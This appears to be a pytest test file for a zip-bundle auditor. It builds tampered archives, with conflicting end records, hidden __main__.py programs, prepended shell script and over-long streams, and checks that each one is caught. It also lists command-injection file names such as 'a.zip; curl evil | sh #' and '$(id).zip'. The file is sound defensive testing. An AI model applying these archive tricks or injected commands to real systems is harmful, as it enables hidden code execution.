"""A bundle that two readers read differently: what `audit --check` has read must be what `python BUNDLE` runs."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest

from tests.support import audit as support
from tests.support.audit import rewritten
from wherry.auditor import check
from wherry.auditor.audit import audit
from wherry.auditor.bundle import check_bundle

END, END64, LOCATOR = (struct.Struct(form) for form in ("<4s4H2IH", "<4sQ2H2I4Q", "<4sIQI"))


@pytest.fixture
def bundle(tmp_path):
    return support.evidence(tmp_path)


def parts(path):
    """Members, directory, and the number of files of an archive."""
    data = path.read_bytes()
    at = data.rindex(b"PK\5\6")
    count, size, offset = END.unpack_from(data, at)[4:7]
    return data[:offset], data[offset : offset + size], count


def owned():
    """Members and directory of an archive whose program is another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("__main__.py", "print('owned')\n")
    data = buffer.getvalue()
    _count, size, offset = END.unpack_from(data, data.rindex(b"PK\5\6"))[4:7]
    return data[:offset], data[offset : offset + size]


def runs(path):
    """Whether Python runs the other program."""
    done = subprocess.run([sys.executable, "-I", str(path)], check=False, capture_output=True)
    return b"owned" in done.stdout


def test_the_digest_is_that_of_the_file(bundle):
    assert check_bundle(bundle).sha256 == hashlib.sha256(bundle.read_bytes()).hexdigest()


def test_a_wide_end_that_names_another_list_than_the_plain_one_is_found(bundle):
    """zipfile follows the wide record, and before Python 3.13 `python BUNDLE` follows the plain one."""
    members, directory, count = parts(bundle)
    program, listed = owned()
    entry = bytearray(listed)
    struct.pack_into("<I", entry, 42, len(members))  # where the program begins
    first = len(members) + len(program)
    head = members + program + bytes(entry) + bytes(4)
    at = len(head) + len(directory)
    wide = END64.pack(b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), len(head))
    whole = head + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at, 1)
    bundle.write_bytes(whole + END.pack(b"PK\5\6", 0, 0, 1, 1, len(whole) - first, first, 0))
    assert runs(bundle) or sys.version_info >= (3, 13)
    [problem] = check_bundle(bundle).problems
    assert "two lists of files" in problem


def test_a_wide_end_that_agrees_is_none(bundle):
    members, directory, count = parts(bundle)
    at = len(members) + len(directory)
    wide = END64.pack(b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), len(members))
    start = members + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at, 1)
    for size, offset in ((len(directory), len(members)), (0xFFFFFFFF, 0xFFFFFFFF)):
        bundle.write_bytes(start + END.pack(b"PK\5\6", 0, 0, count, count, size, offset, 0))
        assert check_bundle(bundle).ok
    elsewhere = members + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at - 1, 1)
    bundle.write_bytes(elsewhere + END.pack(b"PK\5\6", 0, 0, count, count, len(directory), len(members), 0))
    assert not check_bundle(bundle).ok


@pytest.mark.parametrize("version", [0, 10, 46, 63, 0x0114])
def test_a_file_of_another_version_of_the_format_is_found(bundle, version):
    """Some readers refuse it, some read on: which one is not for the maker of the bundle to choose."""
    data = bytearray(bundle.read_bytes())
    with zipfile.ZipFile(bundle) as archive:
        info = archive.getinfo("report.md")
    struct.pack_into("<H", data, info.header_offset + 4, version)
    bundle.write_bytes(data)
    assert check_bundle(bundle).problems == ["report.md: the header before it differs from the list of files"]
    at = data.rindex(b"report.md") - 46  # its entry in the list of files
    struct.pack_into("<H", data, at + 6, version)
    bundle.write_bytes(data)
    assert not check_bundle(bundle).ok


@pytest.mark.parametrize("where", ["before", "after", "between"])
def test_bytes_that_belong_to_no_file_are_found(bundle, where):
    """A program for another reader, or the holes of a sparse file that would be read for hours."""
    members, directory, count = parts(bundle)
    other = b"#!/bin/sh\necho owned\n" * 100
    if where == "before":
        bundle.write_bytes(other + bundle.read_bytes())
    elif where == "after":
        bundle.write_bytes(bundle.read_bytes() + other)
    else:
        offset = len(members) + len(other)
        end = END.pack(b"PK\5\6", 0, 0, count, count, len(directory), offset, 0)
        bundle.write_bytes(members + other + directory + end)
    assert not check_bundle(bundle).ok


def test_a_comment_is_found(bundle):
    with zipfile.ZipFile(bundle, "a") as archive:
        archive.comment = b"PK\5\6" + bytes(40)
    assert not check_bundle(bundle).ok


def test_a_file_whose_stream_is_longer_than_it_states_is_found(bundle):
    """zipfile ends at the stated size; `python BUNDLE` and others read to the end of the stream."""
    data = bytearray(bundle.read_bytes())
    with zipfile.ZipFile(bundle) as archive:
        infos = archive.infolist()
        text = archive.read("__main__.py")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    longer = packer.compress(text + b"\nprint('owned')\n") + packer.flush()
    [info] = [one for one in infos if one.filename == "__main__.py"]
    begin = info.header_offset + 30 + sum(struct.unpack_from("<2H", data, info.header_offset + 26))
    data[begin : begin + info.compress_size] = longer
    grown = len(longer) - info.compress_size
    end = data.rindex(b"PK\5\6")
    at = struct.unpack_from("<I", data, end + 16)[0] + grown
    struct.pack_into("<I", data, end + 16, at)
    for _one in infos:
        lengths = struct.unpack_from("<3H", data, at + 28)
        name = bytes(data[at + 46 : at + 46 + lengths[0]]).decode()
        header = struct.unpack_from("<I", data, at + 42)[0]
        struct.pack_into("<I", data, at + 42, header + grown * (header > info.header_offset))
        if name == "__main__.py":
            struct.pack_into("<I", data, at + 20, len(longer))
        at += 46 + sum(lengths)
    bundle.write_bytes(data)
    with zipfile.ZipFile(bundle) as archive:
        assert archive.read("__main__.py") == text
    assert not check_bundle(bundle).ok


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_file_that_python_would_unpack_otherwise_is_found(bundle, method):
    with zipfile.ZipFile(bundle) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in contents.items():
            archive.writestr(name, text, method if name == "__main__.py" else None)
    assert "__main__.py: " in check_bundle(bundle).problems[0]


@pytest.mark.parametrize(
    "name",
    ["a.zip; curl evil | sh #", "$(id).zip", "a.zip`id`", "a\x1b]0;x\x07.zip", "a\u202e.zip", "a&b.zip"],
)
def test_a_readme_that_names_a_command_is_none_of_wherry(bundle, name):
    forged = rewritten(
        bundle,
        lambda member, data: data.replace(b"evidence.zip", name.encode()) if member == "README.txt" else data,
    )
    [problem] = check_bundle(forged).problems
    assert problem.startswith("README.txt: not the text that wherry writes")


def test_a_bundle_with_such_a_name_is_valid_and_names_none(tmp_path):
    support.converted(tmp_path)
    path = tmp_path / "a; id.zip"
    audit(bundle=path)
    with zipfile.ZipFile(path) as archive:
        assert b"; id" not in archive.read("README.txt")
    assert check_bundle(path).ok


def test_a_sparse_ledger_is_refused_before_it_is_read(bundle, monkeypatch):
    monkeypatch.setattr(check, "_LINE_MAX", 1 << 16)
    read = []
    digest = hashlib.sha256

    class Counted:
        def __init__(self):
            self.state = digest()

        def update(self, piece):
            read.append(len(piece))
            self.state.update(piece)

        def hexdigest(self):
            return self.state.hexdigest()

    with zipfile.ZipFile(bundle) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(bundle, "w") as archive:
        for name, text in contents.items():
            archive.writestr(name, bytes(64 << 20) if name == "ledger.jsonl" else text)
    monkeypatch.setattr(check.hashlib, "sha256", lambda *data: digest(*data) if data else Counted())
    checked = check_bundle(bundle)
    assert "ledger.jsonl" in checked.problems[0]
    assert sum(read) < 1 << 20


def test_text_of_a_size_that_no_report_has_is_refused(bundle, monkeypatch):
    monkeypatch.setattr(check, "WHOLE_MAX", 1 << 16)
    monkeypatch.setattr(check, "_RATIO_FREE", 1 << 10)
    text = random.Random(0).randbytes(1 << 17)
    changed = rewritten(bundle, lambda name, data: text if name == "report.md" else data)
    assert "report.md: 131072 bytes" in check_bundle(changed).problems[0]
